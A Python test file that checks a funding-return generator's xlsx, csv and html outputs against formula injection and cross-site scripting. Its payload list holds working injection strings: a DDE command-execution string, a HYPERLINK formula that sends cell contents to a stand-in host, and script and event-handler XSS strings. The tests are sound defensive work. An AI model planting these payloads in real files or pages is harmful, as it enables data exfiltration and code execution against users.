"""No output runs anything: no formulas in xlsx, neutralised text in csv, inert html."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from fundflow.ledger.store import add_submission, open_ledger
from fundflow.mapping.reference import Reference
from fundflow.returns import analysis_hook
from fundflow.returns.build import build_return
from fundflow.returns.html import render_html
from fundflow.returns.safe import MAX_CELL, TRIGGERS, restore_text, safe_text
from fundflow.returns.write import write_return
from fundflow.returns.xlsx_kit import Book
from tests.test_return import entry, finance, reference, register, stream

__all__ = ["reference"]  # the session fixture, shared with test_return

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "+1", "-1+2", "-2+3",
    "@SUM(A1)", "@SUM(1+1)", "\t=1", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "＋1", "－1",
    "＠SUM(A1)", "'=1", "#N/A", '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)", "</style><svg onload=alert(1)>",
]


@pytest.fixture(autouse=True)
def _no_analysis(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(analysis_hook, "_headline_function", lambda: None)


@pytest.fixture
def hostile(tmp_path: Path, reference: Reference) -> Any:
    """A return whose funder name, stream name and every category label is a payload."""
    with open_ledger(tmp_path / "l.duckdb") as con:
        add_submission(con, register(
            [stream("S-1", "F-1", 150_000_000, name=PAYLOADS[0])], {"F-1": PAYLOADS[3]}))
        rows = [entry(-50_000 - i, date(2025, 4, 1), date(2025, 4, 30), label)
                for i, label in enumerate(PAYLOADS)]
        add_submission(con, finance("S-1", "F-1", "Q1", rows))
        return build_return(con, "2025-26", reference=reference, funder="F-1")


def test_no_cell_in_the_workbook_is_a_formula(hostile: Any, tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    write_return(hostile, path)
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(re.search(rb"<f[ >]", z.read(n)) for n in sheets)
    texts = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula"
                if isinstance(c.value, str):
                    texts.append(c.value)
    for payload in PAYLOADS:
        assert safe_text(payload) in texts, payload
    assert not any(t[:1] in TRIGGERS or t.lstrip(" ")[:1] in TRIGGERS for t in texts)


def test_csv_text_is_neutralised_and_money_stays_numeric(hostile: Any, tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    write_return(hostile, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        records = list(csv.DictReader(handle))
    labels = {r["funder_category"] for r in records}
    for payload in PAYLOADS:
        assert safe_text(payload) in labels
    for record in records:
        for value in record.values():
            assert value[:1] not in TRIGGERS or re.fullmatch(r"-\d+(\.\d\d)?", value), value
    assert "-500.00" in {r["amount"] for r in records}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs.extend(attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_is_inert_and_shows_the_text(hostile: Any) -> None:
    page = render_html(hostile)
    parser = _Tags()
    parser.feed(page)
    assert not parser.tags & {"script", "img", "iframe", "object", "embed", "link", "base"}
    assert not [a for a, _ in parser.attrs if a.startswith("on")]
    assert not [v for a, v in parser.attrs if a in ("href", "src") and v and ":" in v]
    assert 'http-equiv="Content-Security-Policy"' in page and "default-src 'none'" in page
    shown = "".join(parser.text)
    for payload in PAYLOADS:
        assert safe_text(payload).strip() in shown, payload
    assert "svg onload" not in page.replace("&lt;svg onload", "")


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_safe_text_never_starts_a_formula_and_is_reversible(text: str) -> None:
    safe = safe_text(text)
    assert safe[:1] not in TRIGGERS and safe.lstrip(" \u00a0\u3000")[:1] not in TRIGGERS
    if len(text) < 32_000 and not re.search(r"[\x00-\x08\x0b-\x1f\ufffe\uffff]", text):
        assert restore_text(safe) == text


@settings(max_examples=15, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=8))
def test_any_text_written_by_the_book_reads_back_as_text(tmp_path_factory: Any,
                                                         texts: list[str]) -> None:
    path = tmp_path_factory.mktemp("book") / "t.xlsx"
    book = Book(path, "t")
    sheet = book.sheet("S", header_rows=None, widths=[20])
    for text in texts:
        sheet.line((text, "text", "body"))
    book.save()
    cells = [row[0] for row in load_workbook(path)["S"].iter_rows()]
    assert all(c.data_type == "s" for c in cells)
    assert [c.value for c in cells] == [safe_text(t) for t in texts]


@settings(max_examples=60, deadline=None)
@given(st.integers(16_000, 40_000), st.integers(0, 40_000), st.booleans())
def test_safe_text_fits_excel_in_utf16_units(plain: int, astral: int, rich: bool) -> None:
    """Excel counts a cell's text in UTF-16 units (an emoji is two): what `safe_text` gives
    always fits, and text that fits is never cut."""
    text = "a" * plain + "😀" * astral
    text = f"<r>{text}</r>" if rich else text
    safe = safe_text(text)
    units = len(safe.encode("utf-16-le")) // 2
    assert units <= MAX_CELL
    if len(text.encode("utf-16-le")) // 2 <= MAX_CELL:
        assert safe == text
    else:
        assert safe.endswith("…") and text.startswith(safe[:-1]) and units >= MAX_CELL - 1


def test_long_rich_text_look_alike_of_emoji_still_gets_its_cell(tmp_path: Path) -> None:
    """Text that looks like rich-text markup, past Excel's limit only in UTF-16 units, was
    refused by xlsxwriter with a warning and the cell left empty: now it is cut to fit and
    written, as typed."""
    text = "<r>" + "😀" * 16_400 + "</r>"
    path = tmp_path / "t.xlsx"
    book = Book(path, "t")
    book.sheet("S", header_rows=None, widths=[20]).line((text, "text", "body"))
    book.save()
    value = load_workbook(path)["S"]["A1"].value
    assert value == safe_text(text) and value.startswith("<r>😀") and value.endswith("…")
